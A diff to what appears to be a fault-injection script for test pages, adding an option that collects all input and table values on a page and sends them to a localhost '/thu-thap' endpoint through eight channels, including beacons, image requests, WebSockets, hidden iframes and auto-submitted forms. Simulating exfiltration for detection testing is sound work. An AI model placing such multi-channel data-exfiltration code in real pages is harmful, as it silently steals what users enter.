@@ -53,6 +53,48 @@
     }, Number(manners.late_scripts) * 1000);
   }
 
+  /* What a fault sends to another origin: all that stands on the page, once there is something. */
+  if (manners.values_elsewhere) (function (how, port) {
+    var to = '//' + (port ? '127.0.0.1:' + port : 'localhost:' + location.port) + '/thu-thap', sent = false;
+    function values() {
+      var all = document.querySelectorAll('main input, main select, main textarea, main td, main dd');
+      return Array.prototype.map.call(all, function (one) { return (one.value || one.textContent || '').trim(); })
+        .filter(Boolean).join('|').slice(0, 3000);
+    }
+    var WAYS = {
+      fetch: function (text) { fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text }); },
+      beacon: function (text) { navigator.sendBeacon(to, text); },
+      picture: function (text) { new Image().src = to + '?' + encodeURIComponent(text); },
+      socket: function (text) { new WebSocket('ws:' + to + '?' + encodeURIComponent(text)); },
+      worker: function (text) {
+        var does = 'onmessage = function (e) { fetch(e.data[0], { method: "POST", mode: "no-cors", body: e.data[1] }); };';
+        new Worker(URL.createObjectURL(new Blob([does]))).postMessage(['http:' + to, text]);
+      },
+      frame: function (text) { hidden().src = to + '?' + encodeURIComponent(text); },
+      form: function (text) {
+        var form = document.createElement('form'), field = document.createElement('textarea');
+        form.action = to; form.method = 'post'; form.target = hidden().name;
+        field.name = 'tatCa'; field.value = text; form.appendChild(field);
+        document.body.appendChild(form).submit();
+      },
+      link: function (text) {
+        document.querySelectorAll('a[href$=giay-tiep-nhan]').forEach(function (a) { a.href = to + '?' + encodeURIComponent(text); });
+      }
+    };
+    function hidden() {
+      var frame = document.createElement('iframe');
+      frame.name = 'khungKhac'; frame.hidden = true;
+      return document.body.appendChild(frame);
+    }
+    function send() {
+      if (sent || values().length < 40) return;
+      sent = true;
+      try { WAYS[how](values()); } catch (problem) { /* stopped on its way */ }
+    }
+    document.addEventListener('change', send);
+    window.addEventListener('load', send);
+  }).apply(null, manners.values_elsewhere.split('@'));
+
   if (manners.page_frozen) window.addEventListener('load', function () {
     setTimeout(function () {
       var end = performance.now() + Number(manners.page_frozen) * 1000;
